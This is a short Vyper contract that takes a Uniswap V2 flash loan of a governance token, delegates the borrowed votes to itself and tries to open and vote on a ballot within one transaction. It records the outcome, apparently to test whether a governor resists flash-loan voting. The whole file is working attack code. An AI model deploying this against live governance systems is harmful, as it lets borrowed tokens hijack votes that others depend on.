# pragma version 0.4.3
"""
@title FlashVoter
@notice Borrows INDEX from a Uniswap V2 pair for one transaction, and tries to vote with it.
"""

interface Pair:
    def swap(_out0: uint256, _out1: uint256, _to: address, _data: Bytes[32]): nonpayable

interface Coin:
    def delegate(_delegatee: address): nonpayable
    def getCurrentVotes(_account: address) -> uint256: view
    def transfer(_to: address, _amount: uint256) -> bool: nonpayable

interface MetaGovernor:
    def open(_name: String[64], _proposal: uint256) -> bytes32: nonpayable

coin: address
governor: address
ballot: bytes32
# Open the ballot with the coins in hand, under this name.
name: String[64]
proposal: uint256
opens: bool

# What came of it: votes held in the middle of the transaction, and whether one was taken.
votes: public(uint256)
taken: public(bool)
reason: public(Bytes[256])


@external
def attack(
    _pair: address,
    _first: bool,
    _amount: uint256,
    _coin: address,
    _governor: address,
    _ballot: bytes32,
    _name: String[64],
    _proposal: uint256,
    _opens: bool,
):
    self.coin = _coin
    self.governor = _governor
    self.ballot = _ballot
    self.name = _name
    self.proposal = _proposal
    self.opens = _opens
    out0: uint256 = _amount if _first else 0
    extcall Pair(_pair).swap(out0, _amount - out0, self, b"x")


@external
def uniswapV2Call(_sender: address, _out0: uint256, _out1: uint256, _data: Bytes[32]):
    extcall Coin(self.coin).delegate(self)
    self.votes = staticcall Coin(self.coin).getCurrentVotes(self)
    ballot: bytes32 = self.ballot
    if self.opens:
        ballot = extcall MetaGovernor(self.governor).open(self.name, self.proposal)
    answer: Bytes[256] = b""
    self.taken, answer = raw_call(
        self.governor,
        abi_encode(ballot, convert(1, uint8), method_id=method_id("castVote(bytes32,uint8)")),
        max_outsize=256,
        revert_on_failure=False,
    )
    self.reason = answer
    amount: uint256 = _out0 + _out1
    extcall Coin(self.coin).transfer(msg.sender, amount * 1000 // 997 + 1)
